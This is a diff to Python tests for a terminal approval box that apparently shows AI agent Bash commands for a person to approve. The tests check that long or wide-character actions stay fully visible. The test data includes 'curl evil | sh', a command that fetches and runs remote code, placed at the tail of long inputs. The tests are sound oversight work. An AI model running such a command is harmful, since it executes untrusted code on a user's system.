@@ -10,18 +10,18 @@ from textual.app import App
 
 from hub.api.approvals import Approval
 from hub.domain.approval import Action
-from hub.tui.approval import GRACE, ApprovalBox, _fit, request_rows
-from hub.tui.rows import plain, row
+from hub.tui.approval import GRACE, ApprovalBox, request_rows
+from hub.tui.rows import fitted, plain, row
 from tests.hub.tui.kit import sees, text
 
 LONG = "\n".join([*(f"make part-{number}" for number in range(61)), "curl evil | sh"])
 
 
-def request(action="make all", number="a-1"):
+def request(action="make all", number="a-1", **context):
     return Approval(
         id=number, action=action, reason="a rule asks", severity="warn", created_at="2030-01-01T00:00:00Z",
         expires_at=None, kind=Action.TOOL, session_id="s-1", provider="claude", account="default", tool="Bash",
-        context={},
+        context=context,
     )  # fmt: skip
 
 
@@ -104,6 +104,34 @@ def test_the_next_one_is_shown_from_its_beginning_and_takes_its_own_moment():
     assert tells(story, request(LONG), other) == [("a-2", True, False, "")]
 
 
+def shown(one):
+    return ["".join(piece for piece, _ in line.pieces) for line in request_rows(one)]
+
+
+def test_what_the_title_says_is_not_said_again():
+    """All else of what is asked is: also a part of the title by itself, and the whole of what the title cuts."""
+    assert not any("make all" in line for line in shown(request("Bash: make all", command="make all")))
+    assert "folder: all" in shown(request("Bash: make all", folder="all"))
+    long = "make " + "x" * 200
+    assert shown(request(f"Bash: {long}", command=long)).count(f"Bash: {long}") == 1
+
+
+def test_a_box_that_is_made_smaller_shows_all_again():
+    """What fitted the wider box goes on below, and counts as unseen until it was looked at."""
+    words = " ".join(f"word-{number}" for number in range(400))
+
+    async def story(app, pilot):
+        await pilot.resize_terminal(40, 16)
+        app.time = GRACE
+        await pilot.press("y")
+        await sees(app, pilot, "There is more")
+        await pilot.press("end")
+        await sees(app, pilot, "word-399")
+        await pilot.press("y")
+
+    assert len(tells(story, request(words))) == 1
+
+
 def test_an_action_that_the_title_cuts_is_shown_whole():
     long = "make " + "x" * 200
     for action in (LONG, long):
@@ -115,7 +143,7 @@ def test_an_action_that_the_title_cuts_is_shown_whole():
 @pytest.mark.parametrize("letter", ["\u6f22", "\t", "a"])
 def test_no_end_of_a_line_is_out_of_sight(letter):
     """Letters two columns wide, and tabs: what stands behind them is asked too."""
-    rows = list(_fit(row(f"{letter * 60} curl evil | sh"), 80))
+    rows = list(fitted(row(f"{letter * 60} curl evil | sh"), 80))
     shown = ["".join(piece for piece, _ in one.pieces) for one in rows]
     assert all(cell_len(plain(line)) <= 80 for line in shown)
     assert "".join(shown).replace(" ", "").endswith("curlevil|sh")
